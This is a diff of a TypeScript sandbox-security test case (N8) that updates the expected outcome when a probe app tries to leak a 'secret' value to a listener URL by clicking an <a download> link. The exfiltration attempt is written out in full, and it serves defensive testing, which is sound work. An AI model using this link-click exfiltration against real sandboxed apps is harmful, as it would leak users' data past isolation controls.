@@ -201,27 +201,31 @@ export const navigation: Row[] = [
   {
     id: 'N8',
     group: 'navigation',
-    attempt: '<a download> to an http URL (the listener), which the sandbox turns into a navigation',
+    attempt: '<a download> to an http URL (the listener), which the sandbox would turn into a navigation',
     outcome:
-      "no download; the shell's frame-src refuses the navigation (no HTTP request); the app is stopped",
+      'the runtime keeps the frame on its page and asks the launcher, which refuses (no gesture in the app): no prompt, no download, no request; the app keeps running',
     apps: {
       main: (env) =>
         probeApp(`
   await wait(300);
+  const refused = new Promise((resolve) => {
+    const warn = console.warn.bind(console);
+    console.warn = (...args) => { resolve(String(args[0]).slice(0, 120)); warn(...args); };
+  });
   const a = document.createElement('a');
   a.href = '${env.listener}/n8.txt?d=secret';
   a.download = 'secret.txt';
   document.body.append(a);
   a.click();
+  out.refused = await refused;
 `),
     },
     async check(t) {
-      await t.open();
-      await expect(t.page.getByText('This app left its page and was stopped.')).toBeVisible({
-        timeout: 10_000,
-      });
+      const p = await openAndProbe(t);
+      expect(p.refused).toMatch(/The link was not opened: .*only right after they click/);
+      await expect(t.page.getByRole('dialog')).toHaveCount(0);
       await noHttpLeaks(t);
-      expect(t.downloads, 'downloads').toEqual([]);
+      await launcherIntact(t);
     },
   },
 ];
